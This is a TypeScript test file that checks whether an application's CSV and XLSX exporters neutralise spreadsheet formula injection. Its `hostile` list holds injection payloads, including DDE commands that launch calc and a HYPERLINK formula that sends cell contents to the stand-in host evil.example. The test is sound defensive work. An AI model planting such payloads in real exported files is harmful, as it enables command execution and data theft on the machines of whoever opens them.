import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'

import { printXlsx } from '#electron/kernel/print-xlsx'
import { toCsv } from '#renderer/ui/record-columns'
import { csvText } from '#shared/kernel/csv'
import { csvOf } from '#shared/verification/manifest'
import { partsOf } from '#test/fault/mutations'

import { programSources } from './sources.ts'

/** What people have typed into names to make the spreadsheet of the next reader run something. */
const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '－1+1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '"=1+1',
  '=1,"=2',
]
/** Whether a spreadsheet would compute the text of a cell. */
const computes = (text: string) => /^\s*[=+\-@＝＋－＠]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text)

/** Every maker of comma-separated text, by the file that it is in. */
const makers: Readonly<Record<string, (cell: string) => string>> = {
  'shared/kernel/csv.ts': (cell) => csvText([[cell]]),
  'shared/verification/manifest.ts': (cell) =>
    csvOf({ columns: [{ name: 'a', type: 'TEXT', about: { zh: '', en: '' } }], rows: [[cell]] } as never),
  'renderer/ui/record-columns.ts': (cell) => toCsv([cell], [{ key: 'a', title: cell, text: (row) => row }]),
  // Its lines go through `csvText` as they stand; what the trail says of a hostile name is in test/access.
  'electron/access/audit-export.ts': (cell) => csvText([[JSON.stringify({ name: cell })]]),
}

describe('comma-separated text', () => {
  it('is made in one place, and every file that has a part in it is tried here', () => {
    const sources = programSources()
    const calling = sources.filter(({ text }) => /\bcsvText\(/.test(text)).map(({ path }) => path)
    expect(calling.toSorted()).toEqual(Object.keys(makers).toSorted())
    // Whoever doubles quotation marks makes it by hand; a name in SQL is no cell.
    const byHand = sources.filter(({ text }) => text.replaceAll('FROM "${', '').includes(`'""'`))
    expect(byHand.map(({ path }) => path).toSorted()).toEqual([
      'electron/exchange/diagnostics.ts',
      'shared/kernel/csv.ts',
    ])
    const named = sources.filter(({ text }) => /text\/csv|\.csv`/.test(text)).map(({ path }) => path)
    expect(named.toSorted()).toEqual([
      // Reads what others made.
      'electron/activity/watch.ts',
      'electron/kernel/offer-file.ts',
      'electron/verification/make-package.ts',
      'renderer/ui/RecordTableBar.tsx',
      // Takes what others made.
      'renderer/ui/UploadArea.tsx',
    ])
  })
  it.each(Object.entries(makers))('of %s holds nothing that a spreadsheet computes', (_path, made) => {
    for (const cell of hostile) {
      const rows = parse(made(cell), { bom: true, relax_column_count: true }) as string[][]
      for (const text of rows.flat()) expect(computes(text), JSON.stringify(text)).toBe(false)
    }
  })
  it('comes back as it was, but for the apostrophe, and numbers stay numbers', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 4 }), { minLength: 1 }),
        (rows) => {
          const back = parse(csvText(rows), {
            relax_column_count: true,
            record_delimiter: '\r\n',
          }) as string[][]
          const plain = (text: string) => text.replace(/^'/, '')
          expect(back.map((row) => row.map(plain))).toEqual(rows.map((row) => row.map(plain)))
        },
      ),
    )
    expect(csvText([['-3', '1.5', null, 7]])).toBe('-3,1.5,,7\r\n')
  })
})

it('a workbook holds what was typed as text, and no formula', async () => {
  const bytes = await printXlsx(
    [
      {
        name: '表',
        title: hostile[0] ?? '',
        lines: [...hostile],
        columns: [{ title: '=1+1', width: 20 }],
        rows: hostile.map((cell) => [cell]),
        notes: [...hostile],
        landscape: false,
      } as never,
    ],
    { title: '=1+1', footer: '=1+1' },
  )
  const parts = await partsOf(bytes)
  const sheets = [...parts].filter(([name]) => /worksheets\/.*\.xml$/.test(name))
  expect(sheets.length).toBe(1)
  for (const [, content] of sheets) expect(content.toString()).not.toMatch(/<f[ >]|t="str"/)
  expect([...parts.values()].join('')).not.toMatch(/ddeLink|externalLink/)
})
